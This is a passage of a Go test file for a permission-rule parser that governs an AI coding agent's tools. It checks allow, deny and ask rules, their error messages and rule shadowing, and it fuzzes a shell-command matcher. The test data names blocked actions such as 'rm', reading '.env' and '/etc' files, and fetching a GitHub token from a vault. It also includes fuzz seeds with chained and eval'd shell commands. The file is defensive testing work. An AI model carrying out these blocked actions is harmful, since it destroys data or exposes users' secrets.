		input, _ := json.Marshal(map[string]string{"url": address})
		if c := Of("WebFetch", input); !meets(t, Deny, "WebFetch(domain:example.com)", c) || !meets(t, Ask, "WebFetch(domain:*.example.com)", c) || meets(t, Allow, "WebFetch(domain:*.com)", c) {
			t.Errorf("%s: its host is told", address)
		}
	}
	for _, rule := range []string{"*", "mcp__*", "mcp__*__get_issue", "mcp__git*"} {
		if !meets(t, Deny, rule, Of("mcp__github__get_issue", nil)) {
			t.Errorf("%s denies nothing", rule)
		}
	}
	s, _ := parse(t, "allow: ['mcp__notes__*', mcp__notes]", "")
	if got := s.Check(Of("mcp__notes__VaultHttpFetch", json.RawMessage(vaultInput)), ""); got.Decision != Asked {
		t.Errorf("a pattern allows the vault: %v", got)
	}
}

// TestRefusedF30: what Claude Code's syntax means nothing by, or cannot be carried over, is refused with what to write; the example is about that tool,
// and accepted there (F31).
func TestRefusedF30F31(t *testing.T) {
	for _, tt := range []struct {
		list       List
		rule, says string
		example    string
	}{
		{Deny, "Bash(", "not closed", "Bash("}, {Deny, "Bash(:*)", "before :*", "Bash("}, {Deny, "Bash(a:*b)", ":* is only understood at the end", "Bash("}, {Deny, "Bash(a:* b:*)", "only understood at the end", "Bash("}, {Allow, "Bash(", "not closed", "Bash(npm"},
		{Deny, "Bash(command:rm *)", "write the content alone: Bash(rm *)", "Bash("}, {Deny, "Read(file_path:/etc/x)", "Read(/etc/x)", "Read("}, {Allow, "Agent(model:opus)", "in deny or ask", "Agent("}, {Allow, "mcp__a__b(x:y)", "in deny or ask", "mcp__"}, {Deny, "Bash(command : rm *)", "write the content alone", "Bash("}, {Deny, "NotebookEdit(notebook_path:*)", "write the content alone", "Edit("},
		{Deny, "Agent(Explore, Plan)", "Agent(Explore)", "Agent("}, {Deny, "Skill(a,b)", "one rule for each", "Skill("}, {Deny, "TodoWrite(x)", "write TodoWrite alone", "TodoWrite"}, {Ask, "ExitPlanMode(plan *)", "alone", "ExitPlanMode"}, {Ask, "exec_command(", "not closed", "Bash("},
		{Deny, "Read(./a:*)", "** for all below", "Read("}, {Deny, "Read(!.env)", "means no file", "Read("}, {Deny, "Read(#a)", "means no file", "Read("}, {Deny, `Read(C:\Work\**)`, "Read(//srv/work/**)", "Read("}, {Deny, "Edit(src/*.{ts,tsx})", "one rule for each", "Edit("},
		{Deny, "Read(~dave/x)", "~/", "Read("}, {Deny, "Write(a[)", "not closed", "Edit("}, {Deny, "Glob(.)", "the folder itself", "Read("}, {Deny, "Read(https://a.example/b)", "an address", "Read("}, {Deny, "NotebookEdit()", "empty", "Edit("},
		{Deny, "WebFetch(https://example.com/a)", "WebFetch(domain:example.com)", "WebFetch("}, {Allow, "WebFetch(example.com)", "domain:example.com", "WebFetch("}, {Deny, "WebFetch(domain:example.com/a)", "path", "WebFetch("}, {Deny, "WebFetch(domain:example.com:8443)", "port", "WebFetch("},
		{Deny, "WebFetch(domain:)", "no host", "WebFetch("}, {Deny, "WebSearch(a*)", "without wildcards", "WebSearch"}, {Deny, "mcp__github__get(x)", "no brackets", "mcp__"}, {Allow, "mcp__github(x)", "no brackets", "mcp__"}, {Allow, "mcp__*", "name the server", "mcp__"},
		{Allow, "mcp__git*", "name the server", "mcp__"}, {Allow, "*", "does not name", "Bash("}, {Allow, "Ba*", "does not name", "Bash("}, {Allow, "mcp__weir", "whole vault", "mcp__"}, {Allow, "mcp__weir__*", "whole vault", "mcp__"}, {Allow, "mcp__weir__Vault*", "whole vault", "VaultHttpFetch("},
		{Deny, "Ba*(x)", "cannot have brackets", "Bash("}, {Deny, "Cd(/x)", "change of directory", ""}, {Allow, "VaultHttpFetch", "whole vault", "VaultHttpFetch(github-token)"}, {Deny, "VaultHttpFetch(a b)", "no key", "VaultHttpFetch"}, {Allow, "LocalMemoryRecall", "in full", "LocalMemoryRecall(fetch:"},
		{Ask, "LocalMemoryRecall(x)", "not a content", "LocalMemoryRecall"}, {Deny, "Vault_Http_Fetch", "write VaultHttpFetch", "VaultHttpFetch"}, {Ask, "PowerShell(", "not closed", "PowerShell("}, {Deny, "Skill(", "not closed", "Skill("}, {Deny, "Raed(x", "not closed", "Read("}, {Deny, "Bash(rm) ", "space behind", "Bash("}, {Allow, "Read(./.env)\t", "space behind", "Read("}, {Deny, " Read", "space", "Read("},
	} {
		data, _ := json.Marshal(map[string][]string{string(tt.list): {tt.rule}})
		_, warnings, err := Parse(File{Name: "f", Data: data})
		if err != nil || len(warnings) != 1 || warnings[0].InForce {
			t.Errorf("%s %s: %v %v", tt.list, tt.rule, warnings, err)
			continue
		}
		w := warnings[0]
		if line := w.String(); !strings.Contains(line, tt.says) || !strings.HasPrefix(w.Example, tt.example) || strings.Contains(line, "\n") {
			t.Errorf("%s %s: %s", tt.list, tt.rule, line)
		}
		if _, err := ParseRule(w.Example, tt.list); err != nil {
			t.Errorf("%s %s: the example is refused: %v", tt.list, tt.rule, err)
		}
	}
	for _, tt := range []struct{ data, shows, says string }{
		{"deny: [{a: b}]", "{a: b}", "is not a text"}, {"deny:\n- Read: ./.env\n", "{Read: ./.env}", `write it as one text: "Read(./.env)"`}, {"deny: [[Bash, Read]]", "[Bash, Read]", "is not a text"}, {"ask: [null]", "null", "is not a text"}, {"ask:\n-\n", "null", "is not a text"}, {"ask: [7]", "7", "is not a text"},
		{"deny: {Bash: true}", "{Bash: true}", "list"}, {"deny: [&a [x], *a]", "*a", "is not a text"}, {"deny: ['Raed(x)']", "Raed(x)", "did you mean Read?"}, {"deny: [Frobnicate]", "Frobnicate", "no tool is known"}, {"allow: [Bahs]", "Bahs", "did you mean Bash?"}, {"permissions: {deny: [Bash]}", "permissions", "move its lists"},
	} {
		_, warnings, err := Parse(File{Name: "f", Data: []byte(tt.data)})
		if err != nil || len(warnings) == 0 || strings.HasSuffix(warnings[0].String(), "for example ") {
			t.Errorf("%s: %v %v", tt.data, warnings, err)
			continue
		}
		if line := warnings[len(warnings)-1].String(); !strings.Contains(line, `"`+tt.shows+`"`) || !strings.Contains(line, tt.says) {
			t.Errorf("%s: %s", tt.data, line)
		}
	}
	// What Claude Code would ask about, and is allowed here.
	for _, tt := range []struct{ allow, ask, by string }{
		{"Bash", "Bash(git push:*)", "Bash"}, {"Bash(git *)", "Bash(git push *)", "Bash(git *)"}, {"Bash(git:*)", "Bash(git push)", "Bash(git:*)"}, {"Read", "Read(./.env)", "Read"}, {"mcp__a", "mcp__a__b", "mcp__a"}, {"WebSearch", "WebSearch", "WebSearch"}, {"Edit", "Write", "Edit"},
		{"Bash(git status)", "Bash(git push:*)", ""}, {"Bash(git:*)", "Bash", ""}, {"Read(./src/**)", "Read(./.env)", ""}, {"mcp__a__b", "mcp__a", ""}, {"Bash(npm:*)", "Bash(git * main)", ""},
	} {
		data, _ := json.Marshal(map[string][]string{"ask": {tt.ask}, "allow": {tt.allow}})
		_, warnings, err := Parse(File{Name: "f", Data: data})
		if err != nil || (len(warnings) > 0) != (tt.by != "") || tt.by != "" && (!warnings[0].InForce || !strings.Contains(warnings[0].String(), tt.by+" in allow is checked first")) {
			t.Errorf("allow %s, ask %s: %v %v", tt.allow, tt.ask, warnings, err)
		}
	}
	for _, name := range []string{"Bash", "Edit", "Task", "TodoWrite", "ExitPlanMode", "apply_patch", "exec_command", "mcp__a__b", "mcp__a", "VaultHttpFetch", "agent_update", "powershell_exec", "WebSearch", "Skill", "*", "update_plan"} {
		data, _ := json.Marshal(map[string][]string{"deny": {name}})
		if s, warnings, err := Parse(File{Name: "f", Data: data}); err != nil || len(warnings) > 0 || s.Len() != 1 {
			t.Errorf("%s: %v %v", name, warnings, err)
		}
	}
	if s, warnings, _ := Parse(File{Name: "f", Data: []byte("deny: [Frobnicate]")}); len(warnings) != 1 || !warnings[0].InForce || s.Len() != 1 || s.Check(Of("Frobnicate", nil), "").Decision != Denied {
		t.Error("a tool that is not known is not denied", warnings)
	}
}

func FuzzCommand(f *testing.F) {
	for _, s := range []string{"ls; rm x", "a $(b `c`)", "timeout 3 nice x", "bash -c 'eval a'", "x=(1 2) y", "f() { g; }", "a <(b) > c", "\x00;;", "find . -exec a {} +", "0(){,}", "a > {,} > {b,c}", "{,} a={,} b"} {
		f.Add(s)
	}
	rules := []commandRule{newCommandRule(Rule{"Bash", "rm:*"}, false), newCommandRule(Rule{"Bash", "a * b"}, false)}
	f.Fuzz(func(t *testing.T, text string) {
		s := &script{text: strings.TrimSpace(text), whole: true}
		s.read(text, 0) // past the recovering
		c := Place{Dir: "/work"}.Call("Bash", nil)
		c.kind, c.command, c.read = shells, text, s
		if r, ok := (&table{commands: map[kind][]commandRule{shells: rules}}).covered(&c); ok && !rules[0].meets(s) && !rules[1].meets(s) {
			t.Errorf("%q is allowed by %v, which it does not meet", text, r)
		}
	})
}
